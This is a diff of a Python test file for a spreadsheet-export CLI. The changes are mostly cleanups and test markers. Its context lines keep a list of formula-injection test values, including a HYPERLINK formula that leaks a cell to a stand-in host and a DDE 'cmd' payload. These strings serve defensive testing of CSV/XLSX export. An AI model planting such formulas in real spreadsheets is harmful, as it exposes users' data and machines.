@@ -8,7 +8,6 @@ import subprocess
 import sys
 import time
 import zipfile
-from dataclasses import asdict
 
 import openpyxl
 import pytest
@@ -24,6 +23,8 @@ from indicode.cli import app
 from indicode.workspace import NewDecision, Origin, Workspace
 from indicode.workspace.store import default_location
 
+pytestmark = pytest.mark.usefixtures("shared_vector_cache")  # its commands build Linkers of their own
+
 runner = CliRunner()
 FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
             "=cmd|' /C calc'!A0", "\t=1+1", "'quoted"]
@@ -31,7 +32,7 @@ FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+
 
 def _one_error(stderr: str) -> bool:
     """Exactly one `error:` line, no traceback."""
-    return "Traceback" not in stderr and sum(l.startswith("error: ") for l in stderr.splitlines()) == 1
+    return "Traceback" not in stderr and sum(line.startswith("error: ") for line in stderr.splitlines()) == 1
 
 
 def _env(**extra):
@@ -452,8 +453,8 @@ def test_a_writer_killed_mid_transaction_is_rolled_back_on_open(tmp_catalogue, t
             "con.execute('PRAGMA cache_size=1')\n"
             "con.execute('BEGIN')\n"
             "for i in range(3000):\n"
-            "    con.execute('INSERT INTO learned (text, level2, code, reviewer, decided_at, source) VALUES (?,?,?,?,?,?)',"
-            " (f't{i}' * 20, '12', '112000272', 'x', 'now', 's'))\n"
+            "    con.execute('INSERT INTO learned (text, level2, code, reviewer, decided_at, source) '"
+            "'VALUES (?,?,?,?,?,?)', (f't{i}' * 20, '12', '112000272', 'x', 'now', 's'))\n"
             "print('ready', flush=True)\n"
             "time.sleep(60)\n")
     p = subprocess.Popen([sys.executable, "-c", code, str(tmp_catalogue)], stdout=subprocess.PIPE, text=True)
@@ -485,6 +486,7 @@ from hypothesis import strategies as st  # noqa: E402
 RISKY_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n ,\"A1中文%|!()") + ["\x00", "\x07"]), max_size=12)
 
 
+@pytest.mark.slow  # 150 generated tables, each written as CSV and XLSX and read back: about 2 s
 @settings(max_examples=150, deadline=None)
 @given(st.lists(st.lists(RISKY_TEXT, min_size=2, max_size=2), min_size=1, max_size=6))
 def test_any_text_round_trips_and_never_runs(tmp_path_factory, cells):
